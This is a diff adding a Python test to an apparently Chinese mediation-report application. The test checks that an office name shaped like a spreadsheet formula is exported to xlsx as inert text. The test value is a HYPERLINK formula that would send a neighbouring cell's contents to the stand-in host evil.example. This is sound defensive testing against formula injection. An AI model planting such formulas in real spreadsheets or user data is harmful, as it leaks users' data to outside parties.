@@ -133,3 +133,18 @@ def test_report_set_access(login, cast, cases):
     response = login(cast.city_leader).get(bad)
     assert response.status_code == 400
     assert "月份格式应为" in response.content.decode()
+
+
+def test_an_office_name_that_looks_like_a_formula_is_exported_as_text(login, cast, cases):
+    # Office names are typed by administrators (and imported from their sheets).
+    name = '=HYPERLINK("http://evil.example/?"&B6,"甲一镇")'
+    cast.township_a1.name = name
+    cast.township_a1.save()
+
+    book = download(
+        login(cast.county_supervisor), form_url(cast.county_a, month="2026-03", format="xlsx")
+    )
+
+    sheet = book["人民调解工作情况月报表"]
+    (cell,) = [c for (c,) in sheet.iter_rows(min_col=1, max_col=1) if c.value == name]
+    assert cell.data_type == "s" and cell.quotePrefix
